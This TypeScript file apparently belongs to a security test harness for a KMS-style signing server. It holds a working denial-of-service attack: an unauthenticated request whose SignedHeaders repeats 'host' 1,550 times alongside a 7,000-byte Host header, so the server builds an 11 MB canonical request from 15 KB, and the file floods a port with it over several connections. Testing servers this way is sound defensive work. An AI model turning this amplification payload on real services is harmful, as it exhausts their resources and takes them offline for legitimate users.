import { formatAmzDate } from '@keyhold/protocol'
import type { Attack } from './attack.ts'
import { flood } from './flood.ts'

const REPETITIONS = 1550
const HOST_BYTES = 7000

/**
 * Without credentials: SignedHeaders that name one long header over and over, so that a canonical request of 11 MB would be
 * made of 15 KB.
 */
export const signedHeaders: Attack<Uint8Array> = {
  prepare: async () => repeated(new Date()),
  run: (request, port) => flood({ port, request, connections: 4, everyMs: 50 }),
}

function repeated(now: Date): Uint8Array {
  const time = formatAmzDate(now)
  const scope = `AKIAXXXXXXXXXXXXXXXX/${time.slice(0, 8)}/eu-central-1/kms/aws4_request`
  const names = ['x-amz-date', ...Array.from({ length: REPETITIONS }, () => 'host')].join(';')
  const lines = [
    'POST / HTTP/1.1',
    `Host: ${'h'.repeat(HOST_BYTES)}`,
    `X-Amz-Date: ${time}`,
    `Authorization: AWS4-HMAC-SHA256 Credential=${scope}, SignedHeaders=${names}, Signature=${'0'.repeat(64)}`,
    'Content-Length: 0',
  ]
  return Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1')
}
